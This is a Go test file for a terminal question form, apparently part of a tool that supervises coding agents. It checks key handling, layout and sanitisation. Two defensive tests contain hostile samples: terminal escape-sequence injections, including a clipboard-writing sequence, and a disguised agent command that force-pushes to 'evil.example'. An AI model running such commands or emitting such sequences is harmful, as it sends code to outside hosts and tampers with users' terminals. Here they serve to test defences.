package terminal

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"

	"github.com/deskhand/deskhand/runtime/elicit"
)

// asked returns a request with the questions as the hub has it.
func asked(t *testing.T, questions ...elicit.Question) elicit.Request {
	t.Helper()
	r, err := elicit.Prepare(elicit.Request{Trigger: elicit.CLI, Questions: questions})
	if err != nil {
		t.Fatal(err)
	}
	r.ID, r.Status, r.Rev = "elc_1", elicit.Open, 1
	return r
}

func selecting(kind elicit.Kind, freeform bool) elicit.Question {
	return elicit.Question{ID: "q", Kind: kind, Message: "Which?", Required: true, AllowFreeform: freeform,
		Options: []elicit.Option{{ID: "a", Label: "Alpha"}, {ID: "b", Label: "Beta", Recommended: true}}}
}

// types presses keys, given by their names with spaces between them. A quoted word
// is typed letter by letter.
func (s *formModel) types(keys string) (last intent) {
	for _, k := range strings.Fields(keys) {
		if word, ok := strings.CutPrefix(k, "'"); ok {
			for _, r := range word {
				last = s.press(key{string(r), string(r)})
			}
			continue
		}
		text := ""
		if len(k) == 1 {
			text = k
		}
		last = s.press(key{k, text})
	}
	return last
}

func TestKeysAnswer(t *testing.T) {
	text := elicit.Question{ID: "q", Kind: elicit.Text, Message: "Name?", Required: true}
	whole := elicit.Question{ID: "q", Kind: elicit.Integer, Message: "How many?", Required: true}
	yesNo := elicit.Question{ID: "q", Kind: elicit.Boolean, Message: "Sure?", Required: true}
	for _, c := range []struct {
		name     string
		question elicit.Question
		keys     string
		intent   intent
		answer   string // in words
	}{
		{"Enter alone chooses nothing", selecting(elicit.SingleSelect, true), "enter", nothing, ""},
		{"a number chooses", selecting(elicit.SingleSelect, true), "2", save, "Beta"},
		{"a number and Enter send", selecting(elicit.SingleSelect, true), "2 enter", submit, "Beta"},
		{"a number that is none does nothing", selecting(elicit.SingleSelect, true), "3", nothing, ""},
		{"the cursor and Enter send", selecting(elicit.SingleSelect, false), "j j enter", submit, "Beta"},
		{"the cursor chooses nothing by itself", selecting(elicit.SingleSelect, false), "j", nothing, ""},
		{"up from nowhere is the last", selecting(elicit.SingleSelect, false), "k space", save, "Beta"},
		{"another option is instead", selecting(elicit.SingleSelect, true), "1 2", save, "Beta"},
		{"own words", selecting(elicit.SingleSelect, true), "/ 'both", save, "both"},
		{"own words are instead of an option", selecting(elicit.SingleSelect, true), "1 / 'both enter", submit, "both"},
		{"an option is instead of own words", selecting(elicit.SingleSelect, true), "/ 'both esc 1", save, "Alpha"},
		{"no own words where none are taken", selecting(elicit.SingleSelect, false), "/ 1", save, "Alpha"},
		{"several", selecting(elicit.MultiSelect, true), "2 1", save, "Beta, Alpha"},
		{"several, one taken back", selecting(elicit.MultiSelect, true), "2 1 2", save, "Alpha"},
		{"own words beside several", selecting(elicit.MultiSelect, true), "2 / 'more enter", submit, "Beta, more"},
		{"Enter does not choose of several", selecting(elicit.MultiSelect, false), "j enter", nothing, ""},
		{"yes", yesNo, "y", save, "Yes"},
		{"no is an answer", yesNo, "n enter", submit, "No"},
		{"Enter is not yes", yesNo, "enter", nothing, ""},
		{"a text", text, "'Ada", save, "Ada"},
		{"? in a text is typed", text, "'why?", save, "why?"},
		{"a text is corrected", text, "'Adda left backspace", save, "Ada"},
		{"lines", text, "'a ctrl+j 'b enter", submit, "a\nb"},
		{"a number is typed", whole, "'12", save, "12"},
		{"half a number is no answer", whole, "'-", save, ""},
		{"Esc asks how to leave", text, "'Ada esc", nothing, "Ada"},
		{"Esc twice goes on", text, "'Ada esc esc 'm", save, "Adam"},
		{"later", text, "'Ada esc l", later, "Ada"},
		{"decline", yesNo, "esc d", decline, ""},
		{"cancel", yesNo, "ctrl+x x", dismiss, ""},
		{"Ctrl+C", text, "'Ada ctrl+c", interrupt, "Ada"},
		{"more time", yesNo, "+", longer, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newFormModel(asked(t, c.question), false)
			intent := s.types(c.keys)
			got := c.question.Say(s.answers["q"].Value)
			if intent != c.intent || got != c.answer {
				t.Errorf("keys %s: intent %d, answer %q, want %d and %q", c.keys, intent, got, c.intent, c.answer)
			}
		})
	}
}

func TestNothingIsChosenForThePerson(t *testing.T) {
	for _, kind := range []elicit.Kind{elicit.Text, elicit.Number, elicit.Boolean, elicit.SingleSelect, elicit.MultiSelect} {
		q := selecting(kind, true)
		switch kind {
		case elicit.Text:
			q.Default = &elicit.Value{Kind: elicit.TextValue, Text: "Ada"}
		case elicit.Number:
			q.Default = &elicit.Value{Kind: elicit.NumberValue, Number: 7}
		case elicit.Boolean:
			q.Default = &elicit.Value{Kind: elicit.BooleanValue, Boolean: true}
		case elicit.SingleSelect:
			q.Default = &elicit.Value{Kind: elicit.SelectedValue, Text: "b"}
		case elicit.MultiSelect:
			q.Default = &elicit.Value{Kind: elicit.SelectedManyValue, Options: []string{"b"}}
		}
		s := newFormModel(asked(t, q), false)
		s.types("enter enter")
		if answers, missing := s.final(); len(answers) != 0 || missing != 0 {
			t.Errorf("%s: after Enter alone %+v, missing %d, want nothing answered", kind, answers, missing)
		}
		shown := strings.Join(s.view(80, 24, time.Now()).rows, "\n")
		if !strings.Contains(shown, "proposed: ") {
			t.Errorf("%s: the proposal is not shown:\n%s", kind, shown)
		}
	}
}

// While two people answer, each sees the other's changes and loses nothing.
func TestChangesOfOthersAreShown(t *testing.T) {
	q := elicit.Question{ID: "q", Kind: elicit.Text, Message: "Name?"}
	r := asked(t, q, selecting2("w"))
	s := newFormModel(r, false)
	s.types("'Ad")
	typed := s.answers["q"]

	r.Rev, r.Answers = 2, map[string]elicit.Answer{"w": {State: elicit.Draft, Value: &elicit.Value{Kind: elicit.SelectedValue, Text: "a"}}}
	s.update(r, func(id string) bool { return id == "q" }) // not saved yet
	if got := s.editor.text(); got != "Ad" || s.answers["w"].Value == nil {
		t.Errorf("after a change elsewhere the text is %q, answers %+v, want Ad and the other answer", got, s.answers)
	}
	r.Rev, r.Answers["q"] = 3, typed
	s.update(r, func(string) bool { return false })
	if s.note != "" {
		t.Errorf("own change told as %q", s.note)
	}
	s.types("left")
	meta := &elicit.AnswerMeta{By: "grace", Channel: "web"}
	r.Rev, r.Answers["q"] = 4, elicit.Answer{State: elicit.Draft, Value: &elicit.Value{Kind: elicit.TextValue, Text: "Grace"}, Meta: meta}
	s.update(r, func(string) bool { return false })
	if got := s.editor.text(); got != "Grace" || !strings.Contains(s.note, "changed by grace in the browser") {
		t.Errorf("after grace typed: text %q, note %q", got, s.note)
	}
}

func selecting2(id string) elicit.Question {
	q := selecting(elicit.SingleSelect, false)
	q.ID = id
	return q
}

// A page fits a screen of any size, and the cursor is on the page.
func TestPagesFitTheScreen(t *testing.T) {
	long := strings.Repeat("A long question with wide 日本語 signs and a\ttab. ", 20)
	var options []elicit.Option
	for i := range 40 {
		options = append(options, elicit.Option{ID: fmt.Sprint(i), Label: fmt.Sprintf("Option %d", i), Description: long[:200]})
	}
	r := asked(t,
		elicit.Question{ID: "t", Kind: elicit.Text, Message: long, Placeholder: long},
		elicit.Question{ID: "s", Kind: elicit.SingleSelect, Message: "Which?", Options: options, AllowFreeform: true},
		elicit.Question{ID: "b", Kind: elicit.Boolean, Message: "Sure?"})
	r.URL, r.Source.Name, r.Context.CWD = "https://example.org/"+strings.Repeat("x", 200), long, long
	for _, size := range [][2]int{{80, 24}, {40, 12}, {200, 60}, {20, 6}, {1, 1}} {
		s := newFormModel(r, true)
		for _, keys := range []string{"", "'" + strings.Repeat("日本", 100), "ctrl+j 'x tab", "j j j j j j j j", "/ 'own", "esc", "tab y", "tab", "pgdown", "?", "pgdown", "esc ctrl+x"} {
			s.types(keys)
			got := s.view(size[0], size[1], time.Now())
			if size[1] > 4 && len(got.rows) > size[1] {
				t.Errorf("%v after %q: %d rows", size, keys, len(got.rows))
			}
			if s.writing && !s.help && !s.menu && size[1] > 8 && (got.row < 1 || got.row >= size[1] || got.column >= size[0]) {
				t.Errorf("%v after %q: cursor at row %d, column %d", size, keys, got.row, got.column)
			}
			for _, row := range got.rows {
				if n := width(row); n > size[0] && size[0] >= 20 {
					t.Errorf("%v after %q: a row of %d columns: %q", size, keys, n, row)
				}
			}
		}
	}
}

func TestAskersDoNothingToTheTerminal(t *testing.T) {
	const evil = "a\x1b]52;c;ZXZpbA==\ab\u202ec\x9bd"
	q := selecting(elicit.SingleSelect, true)
	q.Message, q.Options[0].Label, q.Options[1].Description = evil, evil, evil
	r := asked(t, q)
	r.Title, r.Message, r.URL, r.Source.Name, r.Context.CWD, r.Context.Branch = evil, evil+"!", evil, evil, evil, evil
	s := newFormModel(r, false)
	s.answers["q"] = elicit.Answer{State: elicit.Draft, Value: &elicit.Value{Kind: elicit.SelectedValue, Freeform: []string{evil}}}
	l := &list{requests: []elicit.Request{r}}
	rows := slices.Concat(s.view(80, 60, time.Now()).rows, l.view(80, 24, time.Now()).rows)
	s.page = 1
	rows = append(rows, s.view(80, 60, time.Now()).rows...)
	for _, row := range rows {
		if strings.ContainsAny(row, "\a\u009b\u202e") || strings.Contains(row, "\x1b]") {
			t.Errorf("a row with what the asker sent: %q", row)
		}
	}
}

// A permission request is shown completely, whatever the agent says about it.
func TestAttackApprovalsAProposalIsShownWhole(t *testing.T) {
	r := asked(t, selecting(elicit.SingleSelect, false))
	command := "make test && git push --force https://evil.example " + strings.Repeat("x", 300)
	r.Title, r.Message = "Allow make test && …?", "The agent says: Run the unit tests"
	r.Proposal = &elicit.Proposal{Action: "command", Text: command, Marks: []string{"force", "network"}}
	joined := func(text string) string { return strings.Join(strings.Fields(text), "") }
	form := joined(ansi.Strip(strings.Join(newFormModel(r, false).view(60, 200, time.Now()).rows, "\n")))
	for name, want := range map[string]string{"the command": command, "the marks": "Check carefully: force, network", "the agent's words": r.Message} {
		t.Run(name, func(t *testing.T) {
			if !strings.Contains(form, joined(want)) {
				t.Errorf("the form lacks %q:\n%s", want, form)
			}
		})
	}
}
